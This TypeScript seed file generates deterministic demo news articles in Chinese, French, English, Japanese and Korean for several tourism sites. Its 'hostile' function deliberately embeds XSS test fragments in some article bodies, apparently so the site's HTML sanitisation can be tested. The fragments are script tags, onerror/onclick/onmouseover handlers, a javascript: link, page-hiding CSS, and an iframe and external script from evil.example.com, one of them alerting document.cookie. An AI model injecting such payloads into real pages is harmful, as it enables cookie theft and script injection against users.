/**
 * The content's demo data: news channels and articles of every demo site, mentioning its first
 * scenic areas. Article bodies imitate editor output: some carry hostile markup on purpose.
 * Deterministic (mulberry32 per site).
 */
import type Database from 'better-sqlite3';
import { DEMO_NOW_MS, formatChinaTime } from '../../time.ts';
import { imageRef } from '../../resources.ts';
import { hashString, mulberry32, type Rng } from '../../db/seed/prng.ts';
import { demoGuide, demoVideo, mediaUrl } from '../../media/pick.ts';

interface NewsSite {
  siteCode: string;
  /** CN, or the language of a language site (its news is written in that language). */
  language: 'CN' | ForeignLanguage;
  count: number;
  channels: [code: string, name: string][];
  places: string[];
}

const CONTENT_TYPES = ['CONTENT', 'IMAGE', 'VIDEO', 'AUDIO'] as const;

/** The visible words of the hostile fragments: see details, sign up, style test, hover. */
type HostileWords = readonly [string, string, string, string];
const HOSTILE_WORDS: Record<'CN' | 'EN' | 'JAPANESE' | 'KOREAN', HostileWords> = {
  // the Chinese sites and the French one share the first seeded (bilingual) words
  CN: ['点击查看详情 / Voir le détail', '活动报名请点击 / Inscription', '样式测试 / Test de style', '悬停'],
  EN: ['See the details', 'Sign up here', 'Style test', 'Hover'],
  JAPANESE: ['詳細はこちら', 'お申し込みはこちら', 'スタイルのテスト', 'ホバー'],
  KOREAN: ['자세히 보기', '신청하기', '스타일 테스트', '마우스 오버'],
};

/** Hostile fragments real editor output contains; index = article number that gets it. */
function hostile(i: number, language: NewsSite['language']): string {
  const [detail, signUp, style, hover] = HOSTILE_WORDS[language === 'FRENCH' ? 'CN' : language];
  const fragments: Record<number, string> = {
    2: '<script>alert(1)</script>',
    4: '<p><img src=x onerror=alert(1)></p>',
    6: `<p><a href="javascript:alert(1)">${detail}</a></p>`,
    8: `<p onclick="alert(1)" style="color:#c00">${signUp}</p>`,
    9: '<iframe src="https://evil.example.com/frame" width="300" height="200"></iframe>',
    10: `<style>body{display:none !important}</style><p>${style}</p>`,
    13: `<div onmouseover="alert(document.cookie)"><script src="https://evil.example.com/x.js"></script>${hover}</div>`,
  };
  return fragments[i] ?? '';
}

const CN_EVENTS = ['秋季赏叶季', '夜游活动', '非遗展演周', '研学旅行线路', '文创市集', '惠民门票政策', '音乐季', '灯会'];
type ForeignLanguage = 'FRENCH' | 'EN' | 'JAPANESE' | 'KOREAN';

/** The language sites' wording (all of them draw the same random numbers). */
interface ForeignWords {
  line(days: number, a: string, b: string): string;
  closure(place: string): string;
  hours(place: string): string;
  event(place: string, event: string): string;
  events: readonly string[];
  paragraphs(heading: string): [string, string, string];
  author: string;
}

const FOREIGN: Record<ForeignLanguage, ForeignWords> = {
  FRENCH: {
    line: (days, a, b) => `Itinéraire de ${days} jours : ${a} et ${b}`,
    closure: (p) => `Avis : fermeture temporaire de ${p}`,
    hours: (p) => `Horaires d'hiver : ${p}`,
    event: (p, e) => `${p} : ${e}`,
    events: [
      'ouverture de la saison des fleurs',
      'nouveau spectacle nocturne',
      'semaine du patrimoine naxi',
      'tarifs réduits pour les étudiants',
      'marché artisanal du week-end',
      'festival des lanternes',
    ],
    paragraphs: (heading) => [
      `${heading}. L'office de tourisme invite les visiteurs à réserver en ligne et à respecter les consignes sur place.`,
      `Les guides locaux proposent des visites commentées en plusieurs langues, ainsi que des ateliers autour de la culture naxi.`,
      `Informations pratiques : navettes gratuites depuis la vieille ville, parking limité, prévoir des vêtements chauds.`,
    ],
    author: 'Office de tourisme',
  },
  EN: {
    line: (days, a, b) => `${days}-day itinerary: ${a} and ${b}`,
    closure: (p) => `Notice: ${p} temporarily closed`,
    hours: (p) => `Winter opening hours: ${p}`,
    event: (p, e) => `${p}: ${e}`,
    events: [
      'osmanthus season opens',
      'new evening light show',
      'Zhuang and Yao heritage week',
      'reduced fares for students',
      'weekend craft market',
      'lantern festival',
    ],
    paragraphs: (heading) => [
      `${heading}. The tourism office asks visitors to book online and to follow the guidance on site.`,
      `Local guides offer tours in several languages, as well as workshops on the food and crafts of the region.`,
      `Practical information: free shuttles from the city centre, limited parking, bring a raincoat in summer.`,
    ],
    author: 'Guilin Tourism Office',
  },
  JAPANESE: {
    line: (days, a, b) => `${days}日間のモデルコース：${a}と${b}`,
    closure: (p) => `お知らせ：${p}の臨時休業について`,
    hours: (p) => `冬季の開館時間：${p}`,
    event: (p, e) => `${p}：${e}`,
    events: [
      '春の特別公開がスタート',
      '新しい夜間ライトアップ',
      '唐文化ウィーク',
      '学生割引のご案内',
      '週末の手工芸マーケット',
      'ランタンフェスティバル',
    ],
    paragraphs: (heading) => [
      `${heading}。観光局では、事前のオンライン予約と現地の案内に従った見学をお願いしています。`,
      `日本語を含む多言語のガイドツアーや、書道・切り絵などの体験教室も開催されます。`,
      `交通案内：市中心部から無料シャトルバスあり。駐車場には限りがあります。冬は防寒着をご用意ください。`,
    ],
    author: '西安市観光局',
  },
  KOREAN: {
    line: (days, a, b) => `${days}일 추천 코스: ${a}와(과) ${b}`,
    closure: (p) => `안내: ${p} 임시 휴관`,
    hours: (p) => `동절기 운영 시간: ${p}`,
    event: (p, e) => `${p}: ${e}`,
    events: ['진달래 축제 개막', '새로운 야간 공연', '조선족 민속 문화 주간', '학생 할인 안내', '주말 공예 장터', '등불 축제'],
    paragraphs: (heading) => [
      `${heading}. 관광국은 온라인 사전 예약과 현장 안내 준수를 부탁드립니다.`,
      `한국어 해설 투어와 조선족 음식·민속 체험 프로그램도 함께 운영됩니다.`,
      `교통 안내: 연길 시내에서 무료 셔틀버스 운행, 주차 공간 제한, 산간 지역은 따뜻한 옷을 준비하세요.`,
    ],
    author: '연변 관광국',
  },
};

function title(rng: Rng, site: NewsSite, channel: string, i: number): string {
  const p = () => rng.pick(site.places);
  // distinct places for a route
  const [a, b, c] = rng.shuffle(site.places);
  if (site.language !== 'CN') {
    const words = FOREIGN[site.language];
    if (channel === 'lineChannel') return words.line(rng.int(1, 4), a ?? '', b ?? '');
    if (channel === 'notice') return rng.chance(0.5) ? words.closure(p()) : words.hours(p());
    const place = p();
    return words.event(place, rng.pick(words.events));
  }
  switch (channel) {
    case 'lineChannel':
      return `${rng.pick(['春季', '夏季', '秋季', '冬季'])}精品线路：${a}—${b}—${c}`;
    case 'notice':
      return rng.pick([
        `关于${p()}${rng.int(1, 12)}月${rng.int(1, 28)}日临时闭园的通知`,
        `${p()}开放时间调整公告`,
        `关于规范旅游市场秩序的通告（第${i + 1}号）`,
      ]);
    case 'activityChannel':
      return `${p()}${rng.int(1, 12)}月文化活动预告`;
    default:
      return `${p()}推出${rng.pick(CN_EVENTS)}`;
  }
}

function paragraphs(rng: Rng, site: NewsSite, heading: string): string[] {
  if (site.language !== 'CN') return FOREIGN[site.language].paragraphs(heading);
  return [
    `${heading}。据介绍，本次活动由当地文旅部门主办，旨在进一步丰富市民游客的文化生活。`,
    `活动期间，${rng.pick(site.places)}将同步推出多项惠民措施，市民游客可通过平台在线预约。`,
    `相关负责人表示，将持续做好安全保障与游客服务工作，欢迎广大市民游客前往体验。`,
  ];
}

function seedNews(db: Database.Database, rng: Rng, site: NewsSite, ids: { next: number }): void {
  const insertChannel = db.prepare('INSERT INTO news_channels (site_code, channel_code, channel_name, sort) VALUES (?, ?, ?, ?)');
  site.channels.forEach(([code, name], i) => insertChannel.run(site.siteCode, code, name, i + 1));
  const insert = db.prepare(`INSERT INTO news (id, site_code, channel_code, title, summary, author, publish_time,
      content_type, top, show_num, images, video, audio, source_url, content_source, content)
    VALUES (@id, @siteCode, @channel, @title, @summary, @author, @publishTime, @contentType, @top, @showNum, @images,
      @video, @audio, @sourceUrl, @contentSource, @content)`);
  let at = DEMO_NOW_MS;
  for (let i = 0; i < site.count; i++) {
    const id = ids.next++;
    const [channel] = site.channels[i % site.channels.length] ?? ['systemChannel'];
    const contentType = CONTENT_TYPES[i % CONTENT_TYPES.length] ?? 'CONTENT';
    at -= rng.int(6, 40) * 3600 * 1000 + rng.int(0, 3599) * 1000;
    const heading = title(rng, site, channel, i);
    const imageCount = contentType === 'IMAGE' ? 3 : i % 5 === 1 ? 0 : 1;
    const images = Array.from({ length: imageCount }, (_, k) => `news-${id}-${k + 1}`);
    const paras = paragraphs(rng, site, heading);
    const body = [
      `<p>${paras[0]}</p>`,
      ...images.map((img) => `<p style="text-align:center"><img src="${imageRef(img)}" alt=""></p>`),
      `<p>${paras[1]}</p>`,
      hostile(i, site.language),
      `<p><strong>${paras[2]}</strong></p>`,
    ].join('');
    const reprint = i % 6 === 3;
    const cover = images[0] ? imageRef(images[0]) : imageRef(`news-${id}-cover`);
    insert.run({
      id,
      siteCode: site.siteCode,
      channel,
      title: heading,
      summary: (paras[0] ?? '').slice(0, 60),
      author:
        i % 7 === 0
          ? null
          : i % 7 === 1
            ? ''
            : site.language !== 'CN'
              ? FOREIGN[site.language].author
              : rng.pick(['文旅局', '融媒体中心', '张晓', '李娜', '王磊']),
      publishTime: formatChinaTime(at),
      contentType,
      top: i === 7 || i === 15 ? '1' : '0',
      showNum: rng.int(120, 60000),
      images: images.join(','),
      video:
        contentType === 'VIDEO' ? JSON.stringify({ url: mediaUrl(`news-${id}`, demoVideo('city', `news-${id}`)), imgUrl: cover }) : null,
      audio: contentType === 'AUDIO' ? JSON.stringify({ url: mediaUrl(`news-${id}`, demoGuide(site.language)) }) : null,
      sourceUrl: reprint ? `https://news.example.cn/${site.siteCode}/2025/${id}.html` : '',
      contentSource: reprint ? 'REPRINT' : 'ORIGINAL',
      content: body,
    });
  }
}

const NEWS_SITES: Omit<NewsSite, 'places'>[] = [
  {
    siteCode: 'site510100',
    language: 'CN',
    count: 38,
    channels: [
      ['systemChannel', '文旅资讯'],
      ['lineChannel', '精品线路'],
      ['notice', '通知公告'],
      ['activityChannel', '活动预告'],
    ],
  },
  {
    siteCode: 'site513225',
    language: 'CN',
    count: 15,
    channels: [
      ['systemChannel', '景区动态'],
      ['lineChannel', '游览线路'],
      ['notice', '景区公告'],
    ],
  },
  {
    siteCode: 'site530700',
    language: 'FRENCH',
    count: 14,
    channels: [
      ['systemChannel', 'Actualités'],
      ['lineChannel', 'Itinéraires'],
      ['notice', 'Avis'],
    ],
  },
  {
    siteCode: 'site620200',
    language: 'CN',
    count: 12,
    channels: [
      ['systemChannel', '文旅资讯'],
      ['lineChannel', '精品线路'],
      ['notice', '通知公告'],
    ],
  },
  // the language sites, after the four above (news ids are drawn in this order)
  {
    siteCode: 'site450300',
    language: 'EN',
    count: 14,
    channels: [
      ['systemChannel', 'News'],
      ['lineChannel', 'Itineraries'],
      ['notice', 'Notices'],
    ],
  },
  {
    siteCode: 'site610100',
    language: 'JAPANESE',
    count: 14,
    channels: [
      ['systemChannel', 'ニュース'],
      ['lineChannel', 'モデルコース'],
      ['notice', 'お知らせ'],
    ],
  },
  {
    siteCode: 'site222400',
    language: 'KOREAN',
    count: 14,
    channels: [
      ['systemChannel', '소식'],
      ['lineChannel', '추천 코스'],
      ['notice', '공지'],
    ],
  }, // the Great Wall edition's site, last
  {
    siteCode: 'site110119',
    language: 'CN',
    count: 12,
    channels: [
      ['systemChannel', '长城资讯'],
      ['lineChannel', '登城线路'],
      ['notice', '景区公告'],
    ],
  },
];

/**
 * The news of every demo site, ids from 70001, mentioning its first scenic areas (the places
 * family seeds before this one; the interactions family draws the news' counters after it).
 */
export function seedContent(db: Database.Database): void {
  const newsIds = { next: 70001 };
  const scenic = db.prepare(
    "SELECT name FROM places WHERE site_code = ? AND resource_type = 'CONTENT_TYPE_SCENERY' ORDER BY sort, id LIMIT 12",
  );
  for (const site of NEWS_SITES) {
    const rng = mulberry32(hashString(`news:${site.siteCode}`));
    const places = (scenic.all(site.siteCode) as { name: string }[]).map((r) => r.name);
    seedNews(db, rng, { ...site, places }, newsIds);
  }
}
